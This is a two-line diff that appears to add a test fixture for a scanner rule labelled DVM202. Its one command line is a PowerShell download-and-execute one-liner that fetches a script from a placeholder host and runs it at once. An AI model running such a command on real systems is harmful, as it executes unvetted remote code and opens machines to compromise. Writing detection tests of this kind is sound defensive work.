@@ -1,0 +1,2 @@
+# expect: DVM202
+pwsh -c 'iex (iwr https://example.org/i.sh)'
